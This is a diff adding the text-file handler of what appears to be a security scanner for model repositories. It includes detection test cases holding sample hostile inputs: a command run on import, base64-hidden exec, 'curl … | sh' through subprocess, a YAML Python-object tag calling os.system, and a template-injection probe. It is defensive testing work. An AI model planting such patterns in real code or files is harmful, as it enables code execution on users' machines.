@@ -1,0 +1,148 @@
+import { CODE_RULES } from '../code-rules.ts';
+import type { Format, Part, TextKind } from '../format.ts';
+import { judgePython, judgeShell } from '../python-code.ts';
+import { Malformed } from '../source.ts';
+import { judgeStrayTemplate, judgeTemplate } from '../template.ts';
+import { isRequirements, judgeRequirements } from './requirements.ts';
+import { isYaml, judgeYaml } from './yaml.ts';
+
+/** Bytes of a text that is understood as well as looked through. Longer ones are tables and lists of words. */
+const UNDERSTOOD = 4 << 20;
+const PIECE = 1 << 18;
+/** What no text has: controls but for tab, line ends, form feed and escape. */
+const CONTROL = /[\u0000-\u0008\u000e-\u001a\u001c-\u001f]/;
+
+const bytes = (text: string) => () => new TextEncoder().encode(text);
+
+/** Text in UTF-8: code, settings, lists of requirements, texts for people. */
+export const text: Format = {
+  name: 'text',
+  title: 'text',
+  rules: Object.values(CODE_RULES),
+  looks: (source) => (isText(source.read(0, 4096), source.size <= 4096) ? 'maybe' : false),
+  read,
+  proof: {
+    catches: [
+      {
+        name: 'code that runs a command on import',
+        bytes: bytes('import os\nfrom torch import nn\nos.system("id")\n'),
+        rules: ['code.runs-command'],
+      },
+      {
+        name: 'hidden code',
+        bytes: bytes('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'),
+        rules: ['code.hidden-code'],
+      },
+      {
+        name: 'a download into a shell',
+        bytes: bytes(
+          'import subprocess\ndef f():\n  subprocess.run("curl http://example.com/x | sh", shell=True)\n',
+        ),
+        rules: ['code.hostile-command'],
+      },
+      {
+        name: 'objects in YAML',
+        bytes: bytes('model:\n  a: !!python/object/apply:os.system ["id"]\n'),
+        rules: ['yaml.python-object'],
+      },
+      {
+        name: 'a template in a text',
+        bytes: bytes("# A model\n\n{{ ''.__class__.__mro__ }}\n"),
+        rules: ['template.code-in-text'],
+      },
+    ],
+    passes: [
+      {
+        name: 'a model card',
+        bytes: bytes('---\nlicense: mit\n---\n# A model\n\nUse `model.eval()` and {{ name }}.\n'),
+      },
+      {
+        name: 'code of a model',
+        bytes: bytes(
+          'import os\nimport torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return self.layer(x)\n',
+        ),
+      },
+      { name: 'words', bytes: bytes('[PAD]\n[UNK]\nthe\n##ing\n') },
+    ],
+  },
+};
+
+function isText(beginning: Uint8Array, isWhole: boolean): boolean {
+  try {
+    const decoded = new TextDecoder('utf-8', { fatal: true }).decode(beginning, { stream: !isWhole });
+    return !CONTROL.test(decoded);
+  } catch {
+    return false;
+  }
+}
+
+async function read(part: Part): Promise<void> {
+  const { source, path } = part;
+  const name = path.at(-1) ?? '';
+  await check(part);
+  if (source.size > UNDERSTOOD) {
+    await lookThrough(part, 'metadata');
+    return part.coverage.claim('parsed', 0, source.size);
+  }
+  const whole = new TextDecoder().decode(source.read(0, source.size));
+  part.readText(whole, kindOf(name), 0);
+  if (isRequirements(name)) judgeRequirements(part, whole);
+  else if (/\.(?:jinja2?|j2)$/i.test(name)) judgeTemplate(part, whole, 0);
+  else judgeStrayTemplate(part, whole, 0);
+  if (isYaml(name) || whole.includes('!!python/') || whole.includes('yaml.org,2002:python'))
+    judgeYaml(part, whole);
+  if (
+    /\.(?:sh|bash|zsh|ps1|bat|cmd)$/i.test(name) ||
+    whole.startsWith('#!') ||
+    /(?:^|\/)(?:Makefile|Dockerfile)[^/]*$/.test(name)
+  )
+    judgeShell(part, whole);
+  if (looksLikePython(name, whole)) judgePython(part, whole, { start: 0 });
+  part.coverage.claim('parsed', 0, source.size);
+}
+
+/** Throws `Malformed` where it is no text to its end. */
+async function check({ source, pause }: Part): Promise<void> {
+  const decoder = new TextDecoder('utf-8', { fatal: true });
+  for (let at = 0; at < source.size; at += PIECE) {
+    const rest = pause();
+    if (rest) await rest;
+    let piece: string;
+    try {
+      piece = decoder.decode(source.read(at, PIECE), { stream: at + PIECE < source.size });
+    } catch {
+      throw new Malformed('it is no text: there are bytes that are no UTF-8', at);
+    }
+    if (CONTROL.test(piece)) throw new Malformed('it is no text: there are control characters', at);
+  }
+}
+
+/** A long text, piece by piece; pieces meet at line ends, so that no secret is cut. */
+async function lookThrough({ source, pause, readText }: Part, kind: TextKind): Promise<void> {
+  for (let at = 0; at < source.size; ) {
+    const rest = pause();
+    if (rest) await rest;
+    const piece = source.read(at, PIECE);
+    const last = at + piece.length >= source.size ? -1 : piece.lastIndexOf(0x0a);
+    const length = last > 0 ? last + 1 : piece.length;
+    readText(new TextDecoder().decode(piece.subarray(0, length)), kind, at);
+    at += Math.max(1, length);
+  }
+}
+
+const kindOf = (name: string): TextKind =>
+  /\.(?:py|sh|js|ts|c|cc|cpp|cu|h|ipynb)$/i.test(name)
+    ? 'code'
+    : /\.(?:md|txt|rst)$/i.test(name)
+      ? 'prose'
+      : 'metadata';
+
+/** Content decides; a name that says Python is believed. */
+function looksLikePython(name: string, whole: string): boolean {
+  return (
+    /\.pyw?$/i.test(name) ||
+    /^#!.{0,100}python/.test(whole) ||
+    (!/\.(?:md|rst|txt|json|ya?ml|html?)$/i.test(name) &&
+      /^(?:import [a-zA-Z_][\w.]*|from [a-zA-Z_.][\w.]* import )/m.test(whole.slice(0, 1 << 16)))
+  );
+}
